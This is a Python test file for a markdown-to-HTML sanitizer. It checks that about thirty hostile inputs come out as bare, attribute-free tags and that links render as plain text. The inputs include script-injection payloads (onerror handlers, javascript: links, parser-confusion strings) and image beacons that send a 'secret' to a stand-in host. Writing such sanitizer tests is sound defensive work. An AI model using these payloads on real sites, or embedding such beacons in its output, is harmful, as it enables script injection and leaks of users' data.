"""Markdown to HTML: what a model or a note may contain, and what can come of it."""

from html.parser import HTMLParser

import pytest

from app.web.markdown import TAGS, to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href='data:text/javascript,alert(1)'/></svg>",
    "<iframe src='https://elsewhere.example'></iframe>",
    "<form action='https://elsewhere.example'><input name=a><button>Go</button></form>",
    "<a href='javascript:alert(1)'>go</a>",
    "<style>body{background:url(https://elsewhere.example/x)}</style>",
    "<link rel=stylesheet href=https://elsewhere.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.example'>",
    "<base href='https://elsewhere.example/'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    '<math><mtext></mtext><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
    "<p style='position:fixed;inset:0'>over everything</p>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "![beacon](https://elsewhere.example/x.png?notes=secret)",
    "![beacon][1]\n\n[1]: https://elsewhere.example/x.png",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](https://elsewhere.example/?q=secret)",
    "[click][2]\n\n[2]: javascript:alert(1) 'title\" onmouseover=alert(1)'",
    "<https://elsewhere.example>",
    "<javascript:alert(1)>",
    "`<img src=x onerror=alert(1)>`",
    '```html" onmouseover=alert(1)\n<script>alert(1)</script>\n```',
    "# <b onclick=alert(1)>head</b>",
    "> <div><script>alert(1)</script></div>",
    "*a*<!-- --!><script>alert(1)</script>-->",
    "<plaintext>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr\u0000ipt>alert(1)</script>",
]


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [name for name, _ in attrs]


@pytest.mark.parametrize("text", HOSTILE)
def test_only_bare_tags_come_out(text: str) -> None:
    """Whatever goes in, what comes out has tags of the short list alone, and no attribute on any of them."""
    reader = _Reader()
    reader.feed(to_html(text))

    assert reader.tags <= TAGS
    assert reader.attributes == []


def test_ordinary_markdown_is_kept() -> None:
    """Emphasis, lists and code look as they were meant."""
    assert to_html("You *did* it:\n\n- **one**\n- `two`") == (
        "<p>You <em>did</em> it:</p>\n<ul>\n<li><strong>one</strong></li>\n<li><code>two</code></li>\n</ul>\n"
    )


def test_a_link_is_shown_as_text() -> None:
    """The host stays visible, and nothing can be clicked."""
    assert to_html("[here](https://elsewhere.example)") == "<p>[here](https://elsewhere.example)</p>\n"
